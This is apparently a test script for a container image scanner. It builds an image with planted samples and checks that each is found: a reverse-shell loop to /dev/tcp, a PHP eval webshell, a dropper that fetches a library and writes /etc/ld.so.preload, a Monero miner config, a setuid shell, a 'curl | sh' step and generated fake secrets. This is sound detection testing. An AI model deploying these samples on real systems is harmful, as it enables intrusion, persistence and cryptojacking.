#!/usr/bin/env bash
# The issue's planted image: realistic layers with a miner, a PHP webshell, a reverse-shell
# script, EICAR, an LD_PRELOAD rootkit dropper, a setuid shell copy, a root user and a
# `curl | sh` build step; each found exactly once by `cguard image scan`, with its path,
# layer, type and level. A file a later layer deletes is still reported (its bytes ship in
# the image), marked removed. Samples use documentation addresses (RFC 5737); EICAR is
# stored XOR-encoded and decoded here at run time.
. "$(dirname "$0")/lib/common.sh"
. "$(dirname "$0")/lib/images.sh"

l0=$T_TMP/l0 l1=$T_TMP/l1 l2=$T_TMP/l2
mkdir -p "$l0/etc/xmrig" "$l0/usr/local/bin" "$l0/opt/.cache" "$l0/tmp" \
	"$l1/var/www/html" "$l1/usr/local/bin" "$l1/tmp" "$l2/srv" "$l1/app/config" "$l2/root/.ssh"
# secrets made here, at run time (none is stored in the tree): an AWS key pair in a
# config file, a private key, a GitHub token in ENV
/usr/bin/python3 - "$T_TMP" <<'PY'
import random, sys
r = random.Random(7)
up = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
an = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
kid = "AKIA" + "".join(r.choice(up) for _ in range(16))
sk = "".join(r.choice(b64) for _ in range(40))
gh = "ghp_" + "".join(r.choice(an) for _ in range(36))
d = sys.argv[1]
open(d + "/l1/app/config/settings.ini", "w").write(
    "[aws]\nregion = eu-west-1\naws_access_key_id = %s\naws_secret_access_key = %s\n" % (kid, sk))
for name, v in (("kid", kid), ("sk", sk), ("gh", gh)):
    open(d + "/" + name, "w").write(v)
PY
openssl genpkey -algorithm ed25519 -out "$l2/root/.ssh/id_ed25519" 2>/dev/null
cat >"$l0/etc/xmrig/config.json" <<'EOF'
{
    "autosave": true,
    "donate-level": 1,
    "cpu": {"enabled": true, "huge-pages": true},
    "pools": [
        {
            "algo": "rx/0",
            "url": "pool.supportxmr.com:3333",
            "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            "pass": "x",
            "keepalive": true
        }
    ]
}
EOF
cat >"$l0/opt/.cache/install.sh" <<'EOF'
#!/bin/sh
# install the helper library
curl -fsSL http://198.51.100.9/x/libntpd.so -o /usr/local/lib/libntpd.so
chmod 755 /usr/local/lib/libntpd.so
echo /usr/local/lib/libntpd.so > /etc/ld.so.preload
chattr +i /etc/ld.so.preload
EOF
# a second copy of the miner, deleted by layer 1
cp "$l0/etc/xmrig/config.json" "$l0/tmp/cfg.json"
printf 'ELF' >"$l0/usr/local/bin/sh" && chmod 4755 "$l0/usr/local/bin/sh"
cat >"$l1/var/www/html/upload.php" <<'EOF'
<?php
// upload helper
if (isset($_POST['k'])) {
    @eval(base64_decode($_POST['k']));
}
echo "<form method=post><input name=k></form>";
?>
EOF
cat >"$l1/usr/local/bin/keepalive.sh" <<'EOF'
#!/bin/bash
# keep a session open
while true; do
  bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
  sleep 60
done
EOF
: >"$l1/tmp/.wh.cfg.json"
/usr/bin/python3 - "$l2/srv/eicar.com" <<'PY'
import sys
x = bytes.fromhex("026f157b0a7f1a1b0a016e060a00026f6e720a04736d1919736d277e1f13191b08770"
                  "90e1b141e1b081e771b140e130c13080f0977 0e1f090e771c13161f7b7e12711270".replace(" ", ""))
open(sys.argv[1], "wb").write(bytes(b ^ 0x5a for b in x))
PY
for l in l0 l1 l2; do tar -C "$T_TMP/$l" --numeric-owner -cf "$T_TMP/$l.tar" .; done
OCI_CONFIG='{"config":{"User":"","Env":["PATH=/usr/bin","GITHUB_TOKEN='"$(cat "$T_TMP/gh")"'"]},"history":[
  {"created_by":"COPY rootfs / # buildkit"},
  {"created_by":"RUN /bin/sh -c curl -fsSL https://get.example.com/setup | sh # buildkit"},
  {"created_by":"ENV GITHUB_TOKEN='"$(cat "$T_TMP/gh")"' # buildkit"},
  {"created_by":"COPY srv /srv # buildkit"}]}' \
	oci_layout "$T_TMP/oci" planted "$T_TMP/l0.tar" "$T_TMP/l1.tar" "$T_TMP/l2.tar"

"$CGUARD" image scan "oci:$T_TMP/oci:planted" --scanners malware,secret,files,baseline,history -f json -q >"$T_TMP/p.json"
check_eq "exit status" "$?" 0
one() { # one KIND PATH-OR-WHERE -> "type level layer removed" of the single finding there
	jq -r --arg k "$1" --arg p "$2" '[.content[] | select(.kind == $k and ((.path // .where) == $p))] |
		if length == 1 then .[0] | "\(.type) \(.level) \(.layer) \(.removed)" else "\(length) findings" end' "$T_TMP/p.json"
}
check_eq "the miner config" "$(one malware /etc/xmrig/config.json)" "Miner high 0 false"
check_eq "the rootkit dropper" "$(one malware /opt/.cache/install.sh)" "Rootkit critical 0 false"
check_eq "the webshell" "$(one malware /var/www/html/upload.php)" "Webshell critical 1 false"
check_eq "the reverse shell" "$(one malware /usr/local/bin/keepalive.sh)" "Trojan critical 1 false"
check_eq "EICAR" "$(one malware /srv/eicar.com)" "Virus medium 2 false"
check_eq "the deleted miner copy: still reported, removed" "$(one malware /tmp/cfg.json)" "Miner high 0 true"
check_eq "malware findings: these six" "$(jq '[.content[] | select(.kind == "malware")] | length' "$T_TMP/p.json")" 6
check_eq "hashes of the file" "$(jq -r '.content[] | select(.path == "/srv/eicar.com") | .sha256' "$T_TMP/p.json")" \
	"$(sha256sum "$l2/srv/eicar.com" | cut -d' ' -f1)"
check_eq "the setuid shell copy" "$(one baseline /usr/local/bin/sh)" "filesystem critical 0 false"
check_eq "the root user" "$(one baseline config:User)" "config medium -1 false"
check_eq "curl | sh" "$(one history history:1)" "build high -1 false"
# secrets: each once, masked everywhere
rules_at() { jq -r --arg p "$1" '[.content[] | select((.path // .where) == $p) | "\(.kind):\(.rule):\(.type):\(.level):\(.layer)"] | sort | join(" ")' "$T_TMP/p.json"; }
check_eq "the AWS key pair in a config file: the key id and the secret key, once each" \
	"$(rules_at /app/config/settings.ini)" \
	"secret:aws-access-key-id:AWS:high:1 secret:aws-secret-access-key:AWS:critical:1"
check_eq "the private key: once, as a sensitive file" "$(rules_at /root/.ssh/id_ed25519)" \
	"files:private-key-file:PrivateKey:critical:2"
check_eq "the token in ENV: once (its history ENV step is the same value)" \
	"$(jq -r '[.content[] | select(.kind == "secret" and ((.where // "") | startswith("env:") or startswith("history:")))] | map("\(.rule) \(.where)") | join(";")' "$T_TMP/p.json")" \
	"github-pat env:GITHUB_TOKEN"
check_eq "the lines of the file findings" "$(jq -r '[.content[] | select(.path == "/app/config/settings.ini") | .line] | sort | join(",")' "$T_TMP/p.json")" "3,4"
"$CGUARD" image scan "oci:$T_TMP/oci:planted" -q --scanners secret,files >"$T_TMP/p.txt"
"$CGUARD" image scan "oci:$T_TMP/oci:planted" -q --scanners secret,files -f sarif >"$T_TMP/p2.sarif"
leaks=0
for v in kid sk gh; do
	for f in p.json p.txt p2.sarif; do grep -qF "$(cat "$T_TMP/$v")" "$T_TMP/$f" && leaks=$((leaks + 1)); done
done
check_eq "no secret appears unmasked in json, table or SARIF" "$leaks" 0
check_eq "... and the masks are there" "$(jq -r '.content[] | select(.rule == "aws-access-key-id") | .match' "$T_TMP/p.json" | cut -c1-8)" "AKIA****"
# the same EICAR through a hash list the test writes (ClamAV .hsb: sha256:size:name)
printf '%s:%s:Planted.EICAR.Test\n' "$(sha256sum "$l2/srv/eicar.com" | cut -d' ' -f1)" \
	"$(stat -c %s "$l2/srv/eicar.com")" >"$T_TMP/local.hsb"
"$CGUARD" image scan "oci:$T_TMP/oci:planted" --scanners malware --hash-db "$T_TMP/local.hsb" -f json -q >"$T_TMP/h.json"
check_eq "a hash list hit, beside the rule's" \
	"$(jq -r '[.content[] | select(.path == "/srv/eicar.com") | .rule] | sort | join(" ")' "$T_TMP/h.json")" \
	"EICAR_Test_File hash:Planted.EICAR.Test"
printf 'not a hash line\n' >"$T_TMP/bad.hdb"
"$CGUARD" image scan "oci:$T_TMP/oci:planted" --scanners malware --hash-db "$T_TMP/bad.hdb" -q >/dev/null 2>"$T_TMP/err"
check_eq "a malformed hash list: exit 1" "$?" 1
check "... naming its line" grep -q "bad.hdb:1: too few" "$T_TMP/err"
"$CGUARD" image scan "oci:$T_TMP/oci:planted" --scanners malware -f sarif -q >"$T_TMP/p.sarif"
check_eq "SARIF: a result per malware finding, at its file" \
	"$(jq -r '[.runs[0].results[] | select(.ruleId | startswith("cguard/malware/")) | .locations[0].physicalLocation.artifactLocation.uri] | sort | join(" ")' "$T_TMP/p.sarif")" \
	"etc/xmrig/config.json opt/.cache/install.sh srv/eicar.com tmp/cfg.json usr/local/bin/keepalive.sh var/www/html/upload.php"

# hostile content: a malformed rule file is refused with its place; a file larger than
# the scanners' caps (96 MiB) is passed over with memory bounded; a binary blob is read
mkdir -p "$T_TMP/badrules" && printf 'rule broken {\n  strings: $a = "x"\n  condition: $b\n}\n' >"$T_TMP/badrules/b.yar"
"$CGUARD" image scan "oci:$T_TMP/oci:planted" --scanners malware --malware-rules "$T_TMP/badrules" -q >/dev/null 2>"$T_TMP/err"
check_eq "a malformed rule file: exit 1" "$?" 1
check "... naming the file, the line and why" grep -q "b.yar:[0-9]*: undefined string" "$T_TMP/err"
mkdir -p "$T_TMP/big/srv"
head -c $((96 << 20)) /dev/zero >"$T_TMP/big/srv/huge.bin"
head -c $((4 << 20)) /dev/urandom >"$T_TMP/big/srv/blob.bin"
tar -C "$T_TMP/big" -cf "$T_TMP/big.tar" . && rm -rf "$T_TMP/big"
oci_layout "$T_TMP/bigoci" big "$T_TMP/big.tar"
/usr/bin/time -f %M -o "$T_TMP/rss" "$CGUARD" image scan "oci:$T_TMP/bigoci:big" --scanners malware,secret,files -f json -q >"$T_TMP/big.json"
check_eq "huge and binary files: exit 0, no findings" "$?:$(jq '.content | length' "$T_TMP/big.json")" "0:0"
check "... with memory bounded (peak RSS $(($(cat "$T_TMP/rss") / 1024)) MB < 160 MB)" test "$(cat "$T_TMP/rss")" -lt $((160 * 1024))
finish
